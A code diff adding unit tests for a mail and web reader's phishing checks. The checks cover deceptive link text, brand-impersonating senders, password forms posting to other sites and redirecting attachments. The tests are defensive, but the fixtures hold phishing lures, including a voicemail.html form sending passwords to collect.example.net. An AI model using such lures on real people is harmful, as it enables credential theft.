@@ -7,7 +7,9 @@
 #include <QTemporaryFile>
 #include <QtTest>
 
+#include <algorithm>
 #include <fstream>
+#include <map>
 #include <sstream>
 
 using namespace uri;
@@ -52,6 +54,16 @@ struct Records
         return nullptr;
     }
 };
+
+// Findings in words: "C1 critical C1.protected", joined by "; ".
+std::string findingWords(const std::vector<security::Finding> &findings)
+{
+    std::string out;
+    for (const security::Finding &f : findings)
+        out += (out.empty() ? "" : "; ") + std::string(f.id) + " "
+               + std::string(security::riskName(f.severity)) + " " + std::string(f.messageId);
+    return out;
+}
 
 Records readAs(const std::string &bytes, Format format, std::optional<std::string> url = {},
                Limits limits = {})
@@ -100,6 +112,13 @@ private slots:
     void cancelStops();
     void hostileBytes_data();
     void hostileBytes();
+    void contextOfPhishingMessage();
+    void contextOfLinks_data();
+    void contextOfLinks();
+    void contextOfSenders_data();
+    void contextOfSenders();
+    void contextOfAttachedPage();
+    void contextQuietOnBenignMail();
 };
 
 void TstDocuments::sniffsByContent_data()
@@ -892,6 +911,288 @@ void TstDocuments::hostileBytes()
     for (const LinkRecord &l : r.links)
         QVERIFY(!l.written.empty());
     QVERIFY(r.links.size() + r.notices.size() + r.messages.size() < 10);
+}
+
+// docs/security-checks.md §4.11, the catalog's example: the PayPal mail's
+// link shows paypal.com and goes elsewhere; its sender signs as PayPal.
+void TstDocuments::contextOfPhishingMessage()
+{
+    const Records r = readAs(contents(dataFile("phish_paypal_qp.eml")), Format::Message);
+    QCOMPARE(r.messages.size(), std::size_t{1});
+    const MessageRecord &m = r.messages[0];
+    QCOMPARE(findingWords(m.findings), std::string("C3 high C3.name-brand; C3 low C3.reply-other"));
+    QCOMPARE(m.findings[0].message,
+             std::string("The sender's name says paypal, and the mail is from "
+                         "service@paypal-security-alerts.top: paypal-security-alerts.top is none "
+                         "of paypal's domains"));
+    QCOMPARE(m.from, std::string("PayPal Service <service@paypal-security-alerts.top>"));
+    QCOMPARE(m.findings[0].span, (Span{0, 14})); // "PayPal Service" in From
+    QCOMPARE(m.findings[1].message,
+             std::string("Replies go to support@paypa1-help.com, of another owner than the From "
+                         "address's paypal-security-alerts.top"));
+    QCOMPARE(m.findings[1].span, (Span{0, 23}));
+    const LinkRecord &a = r.links[3];
+    QCOMPARE(findingWords(a.findings), std::string("C1 critical C1.protected"));
+    QCOMPARE(a.findings[0].message,
+             std::string("The text shows paypal.com, a protected domain, and the link goes to "
+                         "account-verify.top, another owner"));
+    QCOMPARE(a.findings[0].span, (Span{0, a.written.size()}));
+    // the text part's bare URI shows nothing but itself; the header's neither
+    for (const std::size_t i : {0, 1, 2, 4})
+        QCOMPARE(findingWords(r.links[i].findings), std::string());
+}
+
+// One row per context check of links, positive and negative: what the
+// links of a page get, in document order.
+void TstDocuments::contextOfLinks_data()
+{
+    QTest::addColumn<QString>("page");
+    QTest::addColumn<QString>("url");
+    QTest::addColumn<QString>("expected");
+    const QString none;
+    QTest::newRow("C1 protected domain shown")
+        << "<a href=\"https://paypal.com.account-verify.top/x\">https://www.paypal.com/signin</a>"
+        << none << "C1 critical C1.protected";
+    QTest::newRow("C1 URL of another owner shown")
+        << "<a href=\"https://news-mailer.example.net/c/1\">https://www.example.org/</a>" << none
+        << "C1 high C1.mismatch";
+    QTest::newRow("C1 www name of another owner shown")
+        << "<a href=\"https://evil.example.net/\">www.example.org</a>" << none
+        << "C1 medium C1.mismatch";
+    QTest::newRow("C1 <URL> in angle brackets")
+        << "<a href=\"https://evil.example.net/\">&lt;https://www.example.org/&gt;</a>" << none
+        << "C1 high C1.mismatch";
+    QTest::newRow("C1 not: the same owner")
+        << "<a href=\"https://click.e.example.org/x?id=1\">https://www.example.org</a>" << none
+        << "";
+    QTest::newRow("C1 not: two domains of one brand")
+        << "<a href=\"https://www.amazon.co.uk/gp/css\">www.amazon.com</a>" << none << "";
+    QTest::newRow("C1 the brand's name under another suffix is anyone's")
+        << "<a href=\"https://www.paypal.top/signin\">www.paypal.com</a>" << none
+        << "C1 critical C1.protected";
+    QTest::newRow("C1 not: Safe Links around the shown URL")
+        << "<a href=\"https://eur01.safelinks.protection.outlook.com/"
+           "?url=https%3A%2F%2Fwww.example.org%2Fpage&amp;data=05%7C01&amp;reserved=0\">"
+           "https://www.example.org/page</a>"
+        << none << "";
+    QTest::newRow("C1 not: a redirect whose parameter goes there")
+        << "<a href=\"https://r.example.net/c?u=https%3A%2F%2Fwww.example.org%2F\">"
+           "www.example.org</a>"
+        << none << "";
+    QTest::newRow("C1 low: through a mail service's click tracker")
+        << "<a href=\"https://example.us1.list-manage.com/track/click?u=1&amp;id=2\">"
+           "www.example.org</a>"
+        << none << "C1 low C1.tracker";
+    QTest::newRow("C1 medium: a protected domain through a tracker")
+        << "<a href=\"https://u123.ct.sendgrid.net/ls/click?upn=x\">www.paypal.com</a>" << none
+        << "C1 medium C1.tracker";
+    QTest::newRow("C1 not: words")
+        << "<a href=\"https://evil.example.net/\">Sign in now</a>" << none << "";
+    QTest::newRow("C1 not: a file name shaped as a host")
+        << "<a href=\"https://files.example.net/r\">report.zip</a>" << none << "";
+    QTest::newRow("C1 not: a mailto link")
+        << "<a href=\"mailto:help@example.net\">https://www.paypal.com</a>" << none << "";
+    QTest::newRow("C2 https shown, http link")
+        << "<a href=\"http://www.example.org/login\">https://www.example.org/login</a>" << none
+        << "C2 medium C2.downgrade";
+    QTest::newRow("C2 low: a hop in clear through a click tracker")
+        << "<a href=\"http://click.e.example.org/?qs=1\">https://www.example.org</a>" << none
+        << "C2 low C2.downgrade";
+    QTest::newRow("C4 password form to another site")
+        << "<form action=\"https://collect.example.net/p\"><input name=u>"
+           "<div><input type=\"PASSWORD\" name=p></div></form>"
+        << "https://shop.example.org/"
+        << "C4 high C4.password";
+    QTest::newRow("C4 not: a login form of the page's own site")
+        << "<form action=\"/login\"><input type=password name=p></form>"
+        << "https://shop.example.org/account"
+        << "";
+    QTest::newRow("C4 password form over http")
+        << "<form action=\"http://shop.example.org/login\"><input type=password></form>"
+        << "https://shop.example.org/"
+        << "C4 high C4.cleartext";
+    QTest::newRow("C4 password form in a page of no site")
+        << "<form action=\"https://collect.example.net/p\"><input type=password></form>" << none
+        << "C4 medium C4.password";
+    QTest::newRow("C4 search form over http")
+        << "<form action=\"http://shop.example.org/search\"><input name=q></form>"
+        << "https://shop.example.org/"
+        << "C4 medium C4.cleartext";
+    QTest::newRow("C4 low: a search form to another site")
+        << "<form action=\"https://www.google.com/search\"><input name=q></form>"
+        << "https://shop.example.org/"
+        << "C4 low C4.other-site";
+    QTest::newRow("C5 meta refresh to another site")
+        << "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example.net/\">"
+        << "https://www.example.org/"
+        << "C5 medium C5.refresh";
+    QTest::newRow("C5 not: a refresh on the same site")
+        << "<meta http-equiv=\"refresh\" content=\"5; url=/new\">"
+        << "https://www.example.org/"
+        << "";
+    QTest::newRow("C5 script location")
+        << "<script>window.location.href = \"https://evil.example.net/x\";</script>" << none
+        << "C5 medium C5.script";
+    QTest::newRow("C7 a link with nothing to see")
+        << "<p>Hi<a href=\"https://t.example.net/p\"></a></p>" << none << "C7 low C7.nothing";
+    QTest::newRow("C7 not: an image is seen")
+        << "<a href=\"https://www.example.org/\"><img src=\"logo.png\"></a>"
+        << "https://www.example.org/"
+        << "";
+    QTest::newRow("C7 not: a named anchor")
+        << "<a name=\"top\"></a><a href=\"#top\"></a>" << none << "";
+}
+
+void TstDocuments::contextOfLinks()
+{
+    QFETCH(QString, page);
+    QFETCH(QString, url);
+    QFETCH(QString, expected);
+    const Records r = readAs(page.toStdString(), Format::Html,
+                             url.isEmpty() ? std::nullopt : std::optional(url.toStdString()));
+    std::vector<security::Finding> all;
+    for (const LinkRecord &l : r.links) {
+        all.insert(all.end(), l.findings.begin(), l.findings.end());
+        for (const security::Finding &f : l.findings) {
+            QCOMPARE(f.span, (Span{0, l.written.size()}));
+            QCOMPARE(security::checkInfo(f.check).family, security::Family::Context);
+            QVERIFY(!f.messageTemplate.empty()); // worded by the catalogue
+        }
+    }
+    QCOMPARE(QString::fromStdString(findingWords(all)), expected);
+}
+
+// C3: the sender, by the headers of a message.
+void TstDocuments::contextOfSenders_data()
+{
+    QTest::addColumn<QString>("headers");
+    QTest::addColumn<QString>("expected");
+    QTest::newRow("a brand's name, another owner's address")
+        << "From: \"PayPal Service\" <service@paypal-security-alerts.top>\n"
+        << "C3 high C3.name-brand";
+    QTest::newRow("an address in the name")
+        << "From: \"service@paypal.com\" <x@mailer.example.net>\n"
+        << "C3 high C3.name-address; C3 high C3.name-brand";
+    QTest::newRow("a list member in the name: via")
+        << "From: \"'bob@example.org' via dev\" <dev@lists.example.net>\nList-Id: "
+           "<dev.example.net>\n"
+        << "C3 low C3.name-address";
+    QTest::newRow("a free mail member of a list: via, no brand")
+        << "From: \"'felix@gmail.com' via club\" <club@googlegroups.com>\n"
+        << "C3 low C3.name-address";
+    QTest::newRow("a newsletter platform's author replies at a free mail service")
+        << "From: Build Weekly <build@mail.beehiiv.com>\nReply-To: build.weekly@gmail.com\n"
+        << "C3 low C3.reply-freemail";
+    QTest::newRow("a platform names its user")
+        << "From: \"jane@example.org (Google Docs)\" <comments-noreply@docs.google.com>\n"
+           "Reply-To: jane.doe@gmail.com\n"
+        << "C3 low C3.name-address; C3 low C3.reply-freemail";
+    QTest::newRow("not: the brand's other country domain") << "From: PayPal <service@paypal.de>\n"
+                                                           << "";
+    QTest::newRow("not: the brand's other mail domain")
+        << "From: Facebook <security@facebookmail.com>\n"
+        << "";
+    QTest::newRow("not: a sender that writes about the brand")
+        << "From: Apple Insider <news@appleinsider.com>\n"
+        << "";
+    QTest::newRow("not: a brand that is an everyday word")
+        << "From: Chase Miller <chase.miller@gmail.com>\n"
+        << "";
+    QTest::newRow("not: the address repeated as the name")
+        << "From: \"news@example.org\" <news@example.org>\n"
+        << "";
+    QTest::newRow("Reply-To at a free mail service")
+        << "From: Acme Billing <billing@acme-corp.example.com>\nReply-To: acme.billing@gmail.com\n"
+        << "C3 medium C3.reply-freemail";
+    QTest::newRow("not: Reply-To of a mailing list")
+        << "From: Bob <bob@example.org>\nReply-To: dev@lists.example.net\nList-Id: "
+           "<dev.lists.example.net>\n"
+        << "";
+    QTest::newRow("not: Reply-To of the same owner")
+        << "From: Shop <news@shop.example.org>\nReply-To: care@example.org\n"
+        << "";
+    QTest::newRow("Return-Path at a mail service")
+        << "From: Shop <news@example.org>\nReturn-Path: <bounces+123@em.sendgrid.net>\n"
+        << "C3 info C3.return-path";
+}
+
+void TstDocuments::contextOfSenders()
+{
+    QFETCH(QString, headers);
+    QFETCH(QString, expected);
+    const Records r = readAs(headers.toStdString() + "Subject: s\n\nBody\n", Format::Message);
+    QCOMPARE(r.messages.size(), std::size_t{1});
+    const MessageRecord &m = r.messages[0];
+    QCOMPARE(QString::fromStdString(findingWords(m.findings)), expected);
+    for (const security::Finding &f : m.findings) {
+        const auto field = std::find_if(f.details.begin(), f.details.end(),
+                                        [](const auto &d) { return d.first == "field"; });
+        QVERIFY(field != f.details.end());
+        const std::string &value = field->second == "from"       ? m.from
+                                   : field->second == "reply_to" ? m.replyTo
+                                                                 : m.returnPath;
+        QVERIFY(f.span.end() <= value.size());
+        QVERIFY(f.span.length > 0);
+    }
+}
+
+// An attached HTML page that asks for a password and goes on by itself:
+// the shapes of credential-phishing attachments.
+void TstDocuments::contextOfAttachedPage()
+{
+    const std::string mail
+        = "From: Accounts <it@example.org>\nSubject: Voice message\nMIME-Version: 1.0\n"
+          "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\n"
+          "Open the attachment.\n--b\nContent-Type: text/html; name=\"voicemail.html\"\n"
+          "Content-Disposition: attachment; filename=\"voicemail.html\"\n\n"
+          "<meta http-equiv=refresh content=\"3;URL=https://evil.example.net/o365\">"
+          "<form action=\"https://collect.example.net/p\" method=post>"
+          "<input type=email><input type=password></form>\n--b--\n";
+    const Records r = readAs(mail, Format::Message);
+    std::vector<security::Finding> all;
+    for (const LinkRecord &l : r.links)
+        all.insert(all.end(), l.findings.begin(), l.findings.end());
+    QCOMPARE(findingWords(all),
+             std::string("C5 high C5.attachment; C4 critical C4.password-attachment"));
+    QCOMPARE(all[1].message, std::string("The attached page voicemail.html asks for a password "
+                                         "and sends it to collect.example.net"));
+}
+
+// The false alarms: over the benign corpus (tests/data/documents/benign:
+// newsletters through mail services, notifications, receipts, list mail,
+// mail through Safe Links and Proofpoint), the context checks flag at
+// most 1% of the links and 1% of the messages at medium or above.
+void TstDocuments::contextQuietOnBenignMail()
+{
+    Records r;
+    QVERIFY(readFile(dataFile("benign/benign.mbox"), std::nullopt, {}, r.handler));
+    QVERIFY(r.messages.size() >= 300);
+    QVERIFY(r.links.size() >= 5000);
+    std::map<std::string, int> byMessage;
+    std::size_t flaggedLinks = 0;
+    for (const LinkRecord &l : r.links) {
+        const std::optional<security::Risk> top = highest(l.findings);
+        if (top && *top >= security::Risk::Medium) {
+            ++flaggedLinks;
+            for (const security::Finding &f : l.findings)
+                ++byMessage[std::string(f.messageId)];
+        }
+    }
+    std::size_t flaggedMessages = 0;
+    for (const MessageRecord &m : r.messages) {
+        const std::optional<security::Risk> top = highest(m.findings);
+        if (top && *top >= security::Risk::Medium) {
+            ++flaggedMessages;
+            for (const security::Finding &f : m.findings)
+                ++byMessage[std::string(f.messageId)];
+        }
+    }
+    for (const auto &[id, n] : byMessage)
+        qInfo("%s: %d", id.c_str(), n);
+    qInfo("links flagged at medium or above: %zu of %zu; messages: %zu of %zu", flaggedLinks,
+          r.links.size(), flaggedMessages, r.messages.size());
+    QVERIFY(flaggedLinks * 100 <= r.links.size());
+    QVERIFY(flaggedMessages * 100 <= r.messages.size());
 }
 
 QTEST_APPLESS_MAIN(TstDocuments)
